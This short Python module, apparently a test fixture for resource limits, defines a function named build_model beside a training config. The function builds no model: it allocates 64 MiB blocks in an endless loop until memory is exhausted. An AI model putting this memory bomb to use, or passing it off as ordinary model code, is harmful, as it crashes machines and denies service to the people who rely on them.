"""Takes memory and touches every page of it."""

TRAINING = {"epochs": 2, "batch_size": 64}

def build_model(input_shape, num_classes):
    """Never give anything back."""
    taken = []
    while True:
        taken.append(bytearray(b"x") * (64 * 2**20))
